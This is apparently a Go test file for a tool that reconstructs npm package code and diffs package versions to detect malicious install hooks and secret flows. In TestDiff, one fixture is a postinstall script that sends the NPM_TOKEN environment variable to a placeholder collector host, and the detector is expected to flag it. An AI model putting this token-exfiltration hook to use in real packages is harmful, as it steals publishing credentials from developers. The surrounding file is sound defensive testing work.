package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// invoke runs the command in this process and returns its exit code and both streams.
func invoke(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, err bytes.Buffer
	a := &app{in: strings.NewReader(stdin), out: &out, err: &err}
	code = a.execute(t.Context(), args)
	return code, out.String(), err.String()
}

func writePackage(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for p, data := range files {
		if err := os.WriteFile(filepath.Join(dir, p), []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestReconstruct(t *testing.T) {
	one := writePackage(t, map[string]string{"package.json": `{"name":"one","version":"1.0.0","scripts":{"install":"node setup.js"}}`,
		"index.js": "const { a } = require('./lib');\nmodule.exports = a;\n", "lib.js": "exports.a = 1;\n", "setup.js": "console.log(1);\n"})
	two := writePackage(t, map[string]string{"package.json": `{"name":"two","version":"1.0.0","type":"module","exports":"./index.js"}`, "index.js": "export const b = 2;\n"})
	empty := writePackage(t, map[string]string{"package.json": `{"name":"empty"}`})
	out := t.TempDir()

	code, stdout, stderr := invoke(t, "", "reconstruct", "--no-confine", one)
	if code != exitOK || !strings.Contains(stdout, "var export_lib_a = 1;") || !strings.Contains(stdout, "run_scripts_install") {
		t.Errorf("exit %d\n%s%s", code, stdout, stderr)
	}
	file, mapFile := filepath.Join(out, "x.cjs"), filepath.Join(out, "x.map")
	code, _, stderr = invoke(t, "", "reconstruct", "--no-confine", one, "--out", file, "--map", mapFile, "--entry", "scripts.install")
	text, err := os.ReadFile(file)
	if code != exitOK || err != nil || !strings.HasSuffix(string(text), "//# sourceMappingURL=x.map\n") || !strings.Contains(string(text), "console.log(1)") {
		t.Errorf("exit %d, %v, %s\n%s", code, err, stderr, text)
	}
	var m struct{ Sources []string }
	if data, err := os.ReadFile(mapFile); err != nil || json.Unmarshal(data, &m) != nil || len(m.Sources) == 0 {
		t.Errorf("map: %v %v", m, err)
	}
	code, _, stderr = invoke(t, "", "reconstruct", "--no-confine", one, two, empty, "--out", out)
	if code != exitError || !strings.Contains(stderr, "no code") {
		t.Errorf("a package without code is an error, the others are still written: exit %d, %s", code, stderr)
	}
	for _, want := range []string{filepath.Base(one) + ".cjs", filepath.Base(two) + ".mjs", filepath.Base(two) + ".mjs.map"} {
		if _, err := os.Stat(filepath.Join(out, want)); err != nil {
			t.Error(err)
		}
	}
	code, stdout, _ = invoke(t, "", "reconstruct", "--no-confine", one, "--list")
	if code != exitOK || stdout != "spliced   index.js\nspliced   lib.js\ncommonjs  setup.js\n" {
		t.Errorf("exit %d\n%s", code, stdout)
	}
	for _, args := range [][]string{{}, {one, two}, {one, two, "--out", out, "--map", mapFile}, {one, "--nothing"}} {
		if code, _, stderr := invoke(t, "", append([]string{"reconstruct", "--no-confine"}, args...)...); code != exitUsage {
			t.Errorf("%v: exit %d, %s", args, code, stderr)
		}
	}
	if got := forTerminal("a\t\x1b[2Jb\n\u202ec"); got != "a\t\\u{1b}[2Jb\n\\u{202e}c" {
		t.Errorf("a terminal would get %q", got)
	}
}

func TestDiff(t *testing.T) {
	old := writePackage(t, map[string]string{"package.json": `{"name":"p","version":"1.0.0"}`, "index.js": "exports.a = 1;\n"})
	update := writePackage(t, map[string]string{"package.json": `{"name":"p","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}`, "index.js": "exports.a = 1;\n",
		"setup.js": "require('https').get('https://collector.invalid/?' + process.env.NPM_TOKEN);\n"})
	code, stdout, stderr := invoke(t, "", "diff", "--no-confine", old, update)
	for _, want := range []string{"p@1.0.0 (clear) -> p@1.0.1", "diff/hook-and-sinks", "diff/secret-flow", "+ postinstall: node setup.js", "setup.js:1"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("the text lacks %q:\n%s%s", want, stdout, stderr)
		}
	}
	if code != exitFound {
		t.Errorf("exit %d, want %d", code, exitFound)
	}
	if code, stdout, _ := invoke(t, "", "diff", "--no-confine", update, old); code != exitOK || !strings.Contains(stdout, "nothing new that matters") {
		t.Errorf("exit %d\n%s", code, stdout)
	}
	code, stdout, _ = invoke(t, "", "diff", "--no-confine", "--format", "json", "--fail-on", "critical", old, update)
	var d map[string]any
	if err := json.Unmarshal([]byte(stdout), &d); code != exitOK || err != nil {
		t.Fatalf("exit %d, %v\n%s", code, err, stdout)
	}
	for _, key := range []string{"schemaVersion", "old", "new", "hooks", "entries", "dependencies", "sinks", "flows", "sequences", "obfuscation", "behaviors", "files", "findings"} {
		if d[key] == nil {
			t.Errorf("the JSON lacks %s", key)
		}
	}
	for _, args := range [][]string{{old}, {old, update, old}, {old, update, "--format", "xml"}, {old, update, "--fail-on", "x"}} {
		if code, _, stderr := invoke(t, "", append([]string{"diff", "--no-confine"}, args...)...); code != exitUsage {
			t.Errorf("%v: exit %d, %s", args, code, stderr)
		}
	}
}
